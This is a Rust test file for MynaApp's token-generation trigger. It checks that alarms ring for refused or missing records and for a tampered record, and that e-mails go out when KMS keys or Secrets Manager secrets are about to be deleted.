struct TokenTrigger(DirectFunction);

impl TokenTrigger {
    fn new(key: u8, issuer: &str) -> Self {
        Self::with(key, issuer, &[])
    }

    /// The trigger, with these environment variables besides the usual ones.
    fn with(key: u8, issuer: &str, variables: &[(&str, &str)]) -> Self {
        let executable = functions().pre_token_generation;
        let mut options = FunctionOptions::new("pre-token-generation", executable);
        let keys = sealing_keys_json(&[key]);
        options.environment = [
            ("RECORD_KEYS", &*keys),
            ("SERVICE_ISSUER", issuer),
            ("PROVIDER_NAME", "MynaApp"),
            ("STACK_NAME", STACK),
            ("AWS_ACCESS_KEY_ID", "AKIAEXAMPLE"),
            ("AWS_SECRET_ACCESS_KEY", "for nobody"),
        ]
        .iter()
        .chain(variables)
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
        Self(DirectFunction::new(options))
    }

    /// Makes tokens for these users, one after the other, each with this record. Gives whether they
    /// have a claim of ours.
    async fn refresh(&self, record: &str, users: impl IntoIterator<Item = usize>) -> bool {
        self.refresh_with(record, IDENTITY, users).await
    }

    /// Makes tokens for users with these identities.
    async fn refresh_with(
        &self,
        record: &str,
        identities: &str,
        users: impl IntoIterator<Item = usize>,
    ) -> bool {
        let event = include_str!("../events/pre-token-generation/refresh.json");
        let mut event: Value = serde_json::from_str(event).unwrap();
        let attributes = &mut event["request"]["userAttributes"];
        attributes["custom:verified_record"] = record.into();
        attributes["identities"] = identities.into();
        let mut has_claim = Vec::new();
        for user in users {
            event["userName"] = format!("MynaApp_{user}").into();
            let answer = self.0.invoke(event.to_string()).await.unwrap();
            has_claim.push(String::from_utf8_lossy(&answer).contains(r#""age_over_20":true"#));
        }
        has_claim.dedup();
        let [all] = has_claim[..] else {
            panic!("{has_claim:?}");
        };
        all
    }

    /// What the trigger measured.
    fn measured(&self) -> Period {
        let period = Period::of(&self.0.logs().lines());
        let known = measurable();
        assert!(period.metrics().all(|metric| known.contains(metric)));
        period
    }

    /// The alarms that ring if this goes on.
    fn rings(&self) -> BTreeSet<String> {
        ringing(&watched(), &going_on(&self.measured()))
    }
}

/// With a wrong key or a wrong issuer, everybody's record is refused.
#[tokio::test]
async fn records_that_are_refused_for_everybody_ring() {
    for (key, issuer) in [
        (OTHER_KEY, ISSUER),
        (KEY, "https://service.example/realms/other"),
    ] {
        let trigger = TokenTrigger::new(key, issuer);
        assert!(!trigger.refresh(&record(), 0..5).await);
        assert_eq!(trigger.rings(), named(&["records-refused"]));
    }
    // Many of the records are valid: those of people who signed in after the key was removed.
    let trigger = TokenTrigger::new(KEY, ISSUER);
    assert!(trigger.refresh(&record(), 0..8).await);
    let foreign = record().replacen("Ae", "AQ", 1);
    assert!(!trigger.refresh(&foreign, 8..17).await);
    assert_eq!(trigger.rings(), named(&["records-refused"]));
}

/// A stricter policy also refuses everybody's records, until they sign in again. The operator who
/// changed it knows this, so no alarm rings. But the refusals must not hide a lost key.
#[tokio::test]
async fn records_that_do_not_fit_a_stricter_policy_ring_for_nobody_and_hide_nothing() {
    let stricter = || TokenTrigger::with(KEY, ISSUER, &[("ACCEPTED_ACR", "aal3")]);
    let trigger = stricter();
    assert!(!trigger.refresh(&record(), 0..5).await);
    assert_eq!(trigger.rings(), named(&[]));
    let trigger = stricter();
    let foreign = record().replacen("Ae", "AQ", 1);
    assert!(!trigger.refresh(&record(), 0..5).await);
    assert!(!trigger.refresh(&foreign, 5..8).await);
    assert_eq!(trigger.rings(), named(&["records-refused"]));
}

/// Somebody removed the record from the attribute mapping: everybody signs in, and nobody has a
/// claim. A single user who removed their record, or never had one, doesn't ring an alarm.
#[tokio::test]
async fn records_that_are_missing_for_everybody_ring() {
    let running = running_with(|options| {
        options.cognito = |cognito| {
            let mapping = &mut cognito.provider.attribute_mapping;
            assert!(mapping.remove("custom:verified_record").is_some());
        };
    })
    .await;
    assert_eq!(log_in(&running, 0..6, None).await, [true; 6]);
    let of_one = measured(&running, &[]);
    assert_eq!(ringing(&watched(), &going_on(&of_one)), named(&[]));
    let others = [
        "long-address",
        "longest",
        "leap-day",
        "no-gender",
        "latin-name",
    ];
    assert_eq!(log_in_as(&running, others, None).await, [true; 5]);
    let of_all = measured(&running, &[]);
    let rings = ringing(&watched(), &going_on(&of_all));
    assert_eq!(rings, named(&["records-refused"]));
    running.stop().await;
}

/// A single user's invalid record, beside others' records or alone, however often it is shown. An
/// unknown key can be made up, too.
#[tokio::test]
async fn one_users_nonsense_does_not_ring_however_often_it_is_shown() {
    let foreign = record().replacen("Ae", "AQ", 1);
    assert_ne!(foreign, record());
    for others in [8, 0] {
        let trigger = TokenTrigger::new(KEY, ISSUER);
        if others > 0 {
            assert!(trigger.refresh(&record(), 0..others).await);
        }
        for nonsense in ["nonsense", &foreign] {
            let same = std::iter::repeat_n(others, 50);
            assert!(!trigger.refresh(nonsense, same).await);
        }
        assert_eq!(trigger.rings(), named(&[]));
    }
}

/// If the user pool allows signing up, one person can be many users. No record was ever made for
/// them.
#[tokio::test]
async fn nonsense_of_users_who_never_signed_in_with_the_card_does_not_ring() {
    let trigger = TokenTrigger::new(KEY, ISSUER);
    for identities in ["[]", ""] {
        assert!(!trigger.refresh_with("nonsense", identities, 0..10).await);
    }
    assert_eq!(trigger.rings(), named(&[]));
    // If the provider's name is wrong, no user is one of ours, and everybody's record is refused.
    let renamed = IDENTITY.replace("MynaApp", "MynaApp2");
    assert!(!trigger.refresh_with(&record(), &renamed, 0..10).await);
    assert_eq!(trigger.rings(), named(&["records-refused"]));
}

/// A record that was changed is not just invalid: it is tampering.
#[tokio::test]
async fn a_forged_record_rings_at_once() {
    let trigger = TokenTrigger::new(KEY, ISSUER);
    assert!(trigger.refresh(&record(), 0..1).await);
    let mut forged = record();
    let last = forged.pop().unwrap();
    let at = forged.len() - 4;
    let other = if &forged[at..=at] == "A" { "B" } else { "A" };
    forged.replace_range(at..=at, other);
    forged.push(last);
    assert!(!trigger.refresh(&forged, 0..1).await);
    let once = trigger.measured();
    assert_eq!(ringing(&watched(), &[once]), named(&["tampering"]));
}

/// An event of AWS CloudTrail about a call, as Amazon EventBridge delivers it. The events are those
/// of AWS's documentation, with keys and secrets of this stack.
fn api_call(service: &str, name: &str, detail: &Value) -> Value {
    let mut event = json!({
        "version": "0",
        "detail-type": "AWS API Call via CloudTrail",
        "source": format!("aws.{service}"),
        "account": "123456789012",
        "time": "2026-11-29T00:00:00Z",
        "region": "ap-northeast-1",
        "detail": {
            "eventVersion": "1.08",
            "eventSource": format!("{service}.amazonaws.com"),
            "eventName": name,
            "awsRegion": "ap-northeast-1",
            "readOnly": false,
            "eventType": "AwsApiCall",
        },
    });
    let members = detail.as_object().unwrap().clone();
    event["detail"].as_object_mut().unwrap().extend(members);
    event
}

/// An e-mail is sent if a key or a secret of this stack is about to be lost, and only if the call
/// succeeded.
#[test]
fn a_key_that_is_going_to_be_deleted_is_told_of_and_so_is_a_secret() {
    let stack = watched();
    let told = |event: &Value| -> Vec<String> {
        let rules = stack.of_type("AWS::Events::Rule");
        let matching = rules.filter(|(_, rule)| matches(&rule["EventPattern"], Some(event)));
        let targets = matching.map(|(_, rule)| {
            let [target] = &rule["Targets"].as_array().unwrap()[..] else {
                panic!("one target");
            };
            assert_eq!(target["Arn"], "nested-AlarmTopic");
            message(&target["InputTransformer"], event)
        });
        targets.collect()
    };
    let key = |arn: &str| {
        json!({
            "resources": [{ "accountId": "123456789012", "type": "AWS::KMS::Key", "ARN": arn }],
        })
    };
    for name in ["ScheduleKeyDeletion", "DisableKey"] {
        let told_of = told(&api_call("kms", name, &key("another-key")));
        let [message] = &told_of[..] else {
            panic!("{told_of:?}");
        };
        assert!(message.starts_with(&format!(
            "{STACK}-keys: {name} (another-key, 2026-11-29T00:00:00Z)."
        )));
        assert!(
            message.contains("docs/operation.md / ") && message.ends_with("docs/operation.en.md")
        );
    }
    let secret = |id: &str| json!({ "requestParameters": { "secretId": id } });
    for id in ["a-secret", "myna-record-keys-a1b2c3d4"] {
        let told_of = told(&api_call("secretsmanager", "DeleteSecret", &secret(id)));
        let [message] = &told_of[..] else {
            panic!("{told_of:?}");
        };
        assert!(message.starts_with(&format!("{STACK}-secrets: DeleteSecret ({id}, ")));
    }
    // Record keys that were there before the stack. Their name doesn't contain the stack's name.
    for arn in ["aRN", "arn"] {
        let mut detail = secret("record-keys-of-old");
        detail["responseElements"] = json!({ arn: "a-secret", "name": "record-keys-of-old" });
        let told_of = told(&api_call("secretsmanager", "DeleteSecret", &detail));
        let [message] = &told_of[..] else {
            panic!("{told_of:?}");
        };
        assert!(message.contains("DeleteSecret (record-keys-of-old, "));
    }

    let mut denied = key("another-key");
    denied["errorCode"] = json!("AccessDenied");
    for nothing in [
        api_call("kms", "ScheduleKeyDeletion", &key("somebody-elses")),
        api_call("kms", "ScheduleKeyDeletion", &denied),
        api_call("kms", "EnableKey", &key("another-key")),
        api_call(
            "secretsmanager",
            "DeleteSecret",
            &secret("other-record-keys-a"),
        ),
        api_call("secretsmanager", "GetSecretValue", &secret("a-secret")),
    ] {
        assert_eq!(told(&nothing), [""; 0], "{nothing}");
    }
}

/// The text that a target gets for an event: its template, filled with the values at these paths.
fn message(transformer: &Value, event: &Value) -> String {
    let mut message = text(&transformer["InputTemplate"]);
    for (name, path) in transformer["InputPathsMap"].as_object().unwrap() {
        let path = text(path).replace("$.", "/").replace('.', "/");
        let path = path.replace('[', "/").replace(']', "");
        let value = text(event.pointer(&path).unwrap());
        message = message.replace(&format!("<{name}>"), &value);
    }
    // The template is a text in quotes.
    serde_json::from_str(&message).unwrap()
}
